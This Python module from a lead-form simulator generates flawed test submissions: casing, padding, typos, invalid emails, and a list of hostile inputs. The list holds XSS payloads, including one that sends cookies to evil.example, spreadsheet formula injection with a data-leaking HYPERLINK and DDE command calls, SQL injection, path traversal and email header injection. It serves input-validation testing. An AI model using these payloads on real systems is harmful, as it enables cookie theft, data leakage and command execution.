"""How submissions go wrong: clumsy hands, typing errors, nobody there, ill will. Pure.

Each function changes the data of one submission in place.
"""

# ruff: noqa: PLR2004 -- a model of people is made of numbers

from random import Random
from typing import Any

from leadloop.project.simulate.contracts import Flaw, Mix, Person
from leadloop.project.simulate.vocabulary import COUNTRY_BY_CODE

Data = dict[str, Any]

TEXT_FIELDS = ("first_name", "last_name", "company", "job_title", "message")

HOSTILE_TEXTS = (
    "<script>alert(document.cookie)</script>",
    '<img src=x onerror="fetch(`//evil.example/`+document.cookie)">',
    '=HYPERLINK("https://evil.example/?leak="&A1,"open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-1;=cmd|'/c notepad'!A1",
    "Robert'); DROP TABLE sales_lead;--",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "zero\u0000byte",
    "\u202egnp.exe",
    "../../../../etc/passwd",
    "Z" * 20_000,
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢LGO",
    "\r\nBcc: everybody@evil.example",
)


def draw_flaw(mix: Mix, rng: Random) -> Flaw | None:
    """Return what will be wrong with the next submission, if anything."""
    dice = rng.random()
    for flaw, share in (
        (Flaw.HOSTILE, mix.hostile),
        (Flaw.HOPELESS, mix.hopeless),
        (Flaw.TYPO, mix.typo),
        (Flaw.CLUMSY, mix.clumsy),
    ):
        if dice < share:
            return flaw
        dice -= share
    return None


def spoil(data: Data, flaw: Flaw, person: Person, rng: Random) -> None:
    """Make ``data`` wrong in the way ``flaw`` names."""
    {
        Flaw.CLUMSY: _clumsy,
        Flaw.TYPO: _typo,
        Flaw.HOPELESS: _hopeless,
        Flaw.HOSTILE: _hostile,
    }[flaw](data, person, rng)


def typed_size(size: int, rng: Random) -> int | str:
    """Return a company's size as people type it; a range begins at or below the true size."""
    style = rng.random()
    if style < 0.62:
        return size
    if style < 0.80:
        return _size_range(size)
    return rng.choice((str(size), f"{size:,}", f"{size} employees", f" {size} "))


def _size_range(size: int) -> str:
    bounds = (1, 11, 51, 201, 501, 1_001, 5_001, 10_001)
    low = max(bound for bound in bounds if bound <= size)
    above = [bound for bound in bounds if bound > low]
    return f"{low}-{above[0] - 1}" if above else f"{low}+"


def _clumsy(data: Data, person: Person, rng: Random) -> None:
    for change in rng.sample(_CLUMSY_CHANGES, 2):
        change(data, person, rng)


def _shout(data: Data, _person: Person, _rng: Random) -> None:
    data["first_name"] = data["first_name"].upper()
    data["last_name"] = data["last_name"].upper()


def _pad(data: Data, _person: Person, _rng: Random) -> None:
    data["email"] = f" {data['email'].title()} "
    data["first_name"] = f"{data['first_name']}  "


def _national_phone(data: Data, person: Person, rng: Random) -> None:
    if not data.get("mobile_phone"):
        return
    phones = COUNTRY_BY_CODE[person.country].phones
    local = phones.trunk + person.phone[1 + len(phones.calling_code) :]
    gap = rng.choice((" ", "-", "."))
    data["mobile_phone"] = gap.join((local[:4], local[4:7], local[7:])).strip(gap)


def _typed_country(data: Data, person: Person, rng: Random) -> None:
    data["country"] = rng.choice(COUNTRY_BY_CODE[person.country].typed)


_CLUMSY_CHANGES = (_shout, _pad, _national_phone, _typed_country)


def _typo(data: Data, _person: Person, rng: Random) -> None:
    field, value = rng.choice(
        (
            ("mobile_phone", "12345"),
            ("mobile_phone", "call me"),
            ("country", "Atlantis"),
            ("country", "XX"),
            ("company_size", "lots"),
            ("company_size", "-4"),
            ("product_interest", "motor"),
            ("last_name", ""),
            ("email", ""),
        )
    )
    data[field] = value


def _hopeless(data: Data, _person: Person, rng: Random) -> None:
    at = data["email"].partition("@")
    data["email"] = rng.choice(
        ("", at[0], f"{at[0]}@@{at[2]}", f"{at[0]}@{at[2].partition('.')[0]}", "n/a", "asdf@asdf")
    )
    data["mobile_phone"] = rng.choice(("", "000", "none", "+1 555"))


def _hostile(data: Data, _person: Person, rng: Random) -> None:
    for field in rng.sample(TEXT_FIELDS, rng.randrange(1, len(TEXT_FIELDS) + 1)):
        data[field] = rng.choice(HOSTILE_TEXTS)
    data["attributes"] = {"note": rng.choice(HOSTILE_TEXTS), "depth": {"a": {"b": {"c": [1, {}]}}}}
